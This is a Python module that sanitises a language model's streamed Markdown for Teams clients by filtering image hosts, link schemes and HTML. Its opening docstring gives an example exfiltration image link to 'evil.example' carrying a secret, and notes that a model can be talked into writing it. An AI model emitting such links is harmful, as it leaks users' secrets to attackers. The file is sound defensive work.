"""Makes a model's Markdown safe for Teams clients, which fetch images unasked and obey some HTML.

A model can be talked into writing `![](https://evil.example/?q=<a secret>)`: showing it is enough to leak. So images
stay only if their host is allowed, links only if their scheme is harmless, and HTML (a mention, too) becomes text.

What must not be is broken up where it begins, and the rest is read on as any other text: so it does not matter what
else a renderer could have taken the rest for. Code stays as it is, but only where no renderer can see anything else
than code; where one could, what is let out makes it agree.
"""

import html
import re
from collections.abc import Collection

import regex

from .fences import OPENER, Fence

HELD = 2_000
"""How many characters something undecided may hold back: about the longest URL that is in use."""

UNCUT = 1_000
"""Characters of inline code and of an image at most: they are safe as a whole only (see `split`)."""

SCHEMES = frozenset({"http", "https", "mailto"})
"""What a link may open, if it does not stay relative."""

# Invisible. It stands where something was broken up or taken away, so that nothing grows together over the gap.
BREAK = "\N{ZERO WIDTH SPACE}"

# A pattern must match the same however much more text comes: it ends with a character that decides, or it cannot be
# longer. Repetitions are possessive (`*+`), so that no text takes more than linear time.
_PLAIN = re.compile(r"(?:[^\\`<!\]\r\n]|!(?=[^\[])|\](?=[^(:])|<(?=[\s<]))++")
_LINE_END = regex.compile(r"\r\n?+|\n")
_TO_LINE_END = re.compile(r"[^\r\n]++")
_ORDINARY_LINE = re.compile(r"[^\s>:+*0-9`~<\[-]")
_BLANK = regex.compile(r"(?:[ \t]*+(?:\r\n?+|\n))++")
_ESCAPE = regex.compile(r"\\[!-/:-@\[-`{-~]")
_BACKTICKS = re.compile(r"`++")
# Maths and the cells of a table are told apart before code is, hence no `$` and no `|`.
_CODE = regex.compile(r"(`++)([^`$|\r\n]++(?:`++[^`$|\r\n]++)*?)\1[^`]")

_MARKS = r"((?:[ \t>:]|[-+*]|[0-9]{1,9}[.)]|\[\^[^\]\r\n]*+\]:)*+)"
_DOUBTFUL_LINE = regex.compile(rf"{_MARKS}(?:```|~~~|(<)[A-Za-z][\s/>])")

_GAP = r"[ \t]*+(?:(?:\r\n?+|\n)[ \t]*+)?+"
_CHARACTERS = r"(?:[^\s\x00-\x1f\x7f()<>\\`]++|\\[!-/:-@\[\]^_{-~])"
_BARE = rf"(?:{_CHARACTERS}|\((?:{_CHARACTERS}|\({_CHARACTERS}*+\))*+\))*+"
_TITLE = r"""(?:"(?:[^"\\`\r\n]|\\[^`\r\n])*+"|'(?:[^'\\`\r\n]|\\[^`\r\n])*+'|\((?:[^()\\`\r\n]|\\[^`\r\n])*+\))"""
_TARGET = rf"\({_GAP}(?|<([^<>\\`\r\n]*+)>|({_BARE}))(?:{_GAP}{_TITLE})?+{_GAP}\)"
_LINK = regex.compile(rf"\]{_TARGET}")
_ALT = r"!\[((?:[^\[\]\\\r\n]|\\[^\r\n]|\[(?:[^\[\]\\\r\n]|\\[^\r\n])*+\])*+)\]"
_IMAGE = regex.compile(_ALT)
_INLINE_IMAGE = regex.compile(rf"{_ALT}{_TARGET}")
_REFERENCE_IMAGE = regex.compile(rf"{_ALT}\[([^\[\]\\\r\n]*+)\]")
_DEFINITION = regex.compile(
    rf"[ \t>]*+\[([^\[\]\\`<\r\n]++)\]:{_GAP}(?|<([^<>\\`\r\n]*+)>|([^\s<]\S*+))(?:[ \t]++{_TITLE})?+[ \t]*+[\r\n]"
)
# Whatever a renderer may take for a definition; what more words follow is prose.
_DEFINED = regex.compile(
    r"\]:[\s>\x00-\x1f]*+(?|<([^<>\]\r\n]*+)[>\]]|([^ \t\r\n<\]][^ \t\r\n\]]*+))(?:\]|[^\S\r\n]*+[\r\n\"'(])"
)

_AUTOLINK = regex.compile(r"<(?:(?:https?://|mailto:)[^\s<>\[\]\\`|]++|[A-Za-z0-9._+-]++@[A-Za-z0-9.-]++)>")
_ROW_BREAK = regex.compile(r"<br ?/?>")
# A tag (a one-letter name is one only if it cannot be maths), a comment and the like, or a link to any scheme or
# address.
_TAG = regex.compile(
    r"<(?:[!?]|/?+[A-Za-z](?:>|[\s/]++[A-Za-z_:>])|/?+[A-Za-z][A-Za-z0-9-]++[\s/>]"
    r"|[A-Za-z][A-Za-z0-9+.-]++:|[^\s<>@]++@[^\s<>]++>)"
)

# Nothing that ends an image for any renderer: what is left of it could be another by reference.
_PLAIN_IMAGE = re.compile(r"[^\[\]!<\\`|$\r\n]*")
_WEB = re.compile(r"https?://([a-z0-9.-]+)(?::[0-9]+)?(?:[/?#][a-z0-9._~:/?#@&*+,;=%-]*)?", re.IGNORECASE)


class _Undecided(Exception):
    """What comes next decides."""


class SafeMarkdown:
    """Takes a text in chunks and gives out its safe form in increments: `feed` for each chunk, then `close`.

    However a text is cut into chunks, its increments together are the same.
    """

    def __init__(self, allowed_image_hosts: Collection[str] = ()) -> None:
        self._hosts = {host.lower() for host in allowed_image_hosts}
        self._images: dict[str, str] = {}  # what the labels of images stand for
        self._text = ""  # what is still to be let out
        self._closing = False
        self._fence: Fence | None = None
        self._at_line_start = self._after_blank_line = True
        self._last_line_end = "\n"
        self._in_row = False  # whether the line has a `|` so far
        self._code_in_doubt = False  # whether a renderer may pair the backticks of this paragraph in another way

    def feed(self, chunk: str) -> str:
        """The further text that is safe to show."""
        # Only ever a short text is cut up, so that a long one takes linear time.
        return "".join(self._let_out(chunk[at : at + HELD]) for at in range(0, len(chunk), HELD))

    def close(self) -> str:
        """What was held back, decided."""
        if self._closing:
            return ""
        self._closing = True
        return self._let_out("\n")[:-1]  # a line end decides all that the end of the text does

    def _let_out(self, chunk: str) -> str:
        self._text += chunk
        out: list[str] = []
        try:
            while self._text:
                out.append(self._step())
        except _Undecided:
            pass
        return "".join(out)

    def _step(self) -> str:
        """Let out the next piece, as it is or made safe."""
        if self._fence:
            return self._code(self._fence)
        if self._at_line_start:
            return self._line()
        if plain := _PLAIN.match(self._text):
            self._in_row |= "|" in plain[0]
            return self._take(plain.end())
        match self._text[0]:
            case "\\":
                escape = self._match(_ESCAPE)
                return self._take(2 if escape else 1)
            case "`":
                return self._backticks()
            case "<":
                return self._angle()
            case "!":
                return self._exclamation()
            case "]":
                return self._bracket()
            case _:
                return self._line_end()

    # Lines

    def _line_end(self) -> str:
        end = self._match(_LINE_END)
        self._at_line_start, self._in_row = True, False
        self._last_line_end = self._take(end.end() if end else 1)
        return self._last_line_end

    def _line(self) -> str:
        if _ORDINARY_LINE.match(self._text):
            self._at_line_start = self._after_blank_line = False
            return ""
        if blank := self._match(_BLANK):
            self._after_blank_line, self._code_in_doubt = True, False
            return self._take(blank.end())
        if opener := self._match(OPENER):
            is_plain = not opener[2] and opener[1] in ("", " ", "  ", "   ")
            gap = "" if is_plain or self._after_blank_line else self._last_line_end
            self._fence = Fence.opened_by(opener)
            return gap + self._take(opener.end() - 1) + self._line_end()
        definition = self._match(_DEFINITION)
        doubtful = self._match(_DOUBTFUL_LINE, or_overlong=True)
        self._at_line_start = self._after_blank_line = False
        if definition and not _is_harmless(definition[2]):
            return self._take(definition.end(1) + 1) + self._drop(definition.end() - definition.end(1) - 2, BREAK)
        if definition and self._allows(definition[2]):
            self._images.setdefault(_label(definition[1]), definition[2])
        if not doubtful:
            return ""
        marks = self._take(doubtful.end() if doubtful.partial else doubtful.end(1))
        return marks + (self._drop(1, "&lt;") if doubtful[2] else BREAK)

    def _code(self, fence: Fence) -> str:
        """A line of code goes out as it comes. Whatever may end the block for a renderer does end it."""
        if not self._at_line_start:
            code = _TO_LINE_END.match(self._text)
            return self._take(code.end()) if code else self._line_end()
        closer = self._match(fence.closer, or_overlong=True)
        if closer and not closer.partial:
            self._fence, self._at_line_start, self._after_blank_line = None, False, False
            return self._drop(closer.end() - 1, fence.closing)
        if closer or not self._match(fence.line):
            self._fence, self._after_blank_line = None, False
            return f"{fence.closing}\n"
        self._at_line_start = False
        return ""

    # Text

    def _backticks(self) -> str:
        code = None if self._code_in_doubt else self._match(_CODE)
        # A definition is told apart before code is.
        if code and "]:" not in code[2] and code.end() - 1 <= UNCUT:
            return self._take(code.end() - 1)
        self._code_in_doubt = True
        run = _BACKTICKS.match(self._text)
        return self._take(run.end() if run else 1)

    def _angle(self) -> str:
        kept = self._match(_AUTOLINK) or (self._match(_ROW_BREAK) if self._in_row else None)
        if kept:
            return self._take(kept.end())
        return self._drop(1, "&lt;") if self._match(_TAG, or_overlong=True) else self._take(1)

    def _bracket(self) -> str:
        link = self._match(_LINK)
        if link and _is_harmless(link[1]):
            return self._take(2)
        if not link and self._text[1] == ":":
            defined = self._match(_DEFINED, or_overlong=True)
            if not self._code_in_doubt and (not defined or (not defined.partial and _is_harmless(defined[1]))):
                return self._take(2)
        return self._drop(link.end() if link else 1, f"]{BREAK}")

    def _exclamation(self) -> str:
        image = self._match(_IMAGE)
        if not image:
            return self._take(1) + BREAK
        if inline := self._match(_INLINE_IMAGE):
            url, image, tail = inline[2], inline, self._text[inline.end(1) + 1 : inline.end()]
        else:
            reference = self._match(_REFERENCE_IMAGE)
            url = self._images.get(_label((reference and reference[2]) or image[1]), "")
            image, tail = reference or image, f"({url})"
        is_plain = _PLAIN_IMAGE.fullmatch(f"{image[1]}{tail}") and len(image[1]) + len(tail) < UNCUT
        if is_plain and self._allows(url):
            return self._drop(image.end(), f"![{image[1]}]{tail}")
        self._text = f"{image[1]}{BREAK}{self._text[image.end() :]}"
        return BREAK

    def _allows(self, url: str) -> bool:
        web = _WEB.fullmatch(url)
        return bool(web) and web[1].lower() in self._hosts

    # The text that is still to be let out

    def _match(self, pattern: regex.Pattern[str], or_overlong: bool = False) -> regex.Match[str] | None:
        """The match at the beginning of the text. What is longer than `HELD` is none, or is a partial one."""
        # A line end may be "\r\n".
        end = min(len(self._text) - self._text.endswith("\r"), HELD)
        is_full = end == HELD
        found = pattern.match(self._text, 0, end, partial=is_full or not self._closing)
        if found and found.partial:
            if not is_full:
                raise _Undecided
            return found if or_overlong else None
        return found

    def _take(self, length: int) -> str:
        taken, self._text = self._text[:length], self._text[length:]
        return taken

    def _drop(self, length: int, replacement: str) -> str:
        self._take(length)
        return replacement


def _is_harmless(target: str) -> bool:
    """Whether a link may point there: to a scheme of `SCHEMES` or to something relative, however it is written."""
    scheme, colon, _rest = re.split("[/?#]", html.unescape(target), maxsplit=1)[0].partition(":")
    return not colon or scheme.lower() in SCHEMES


def _label(text: str) -> str:
    return " ".join(text.casefold().split())
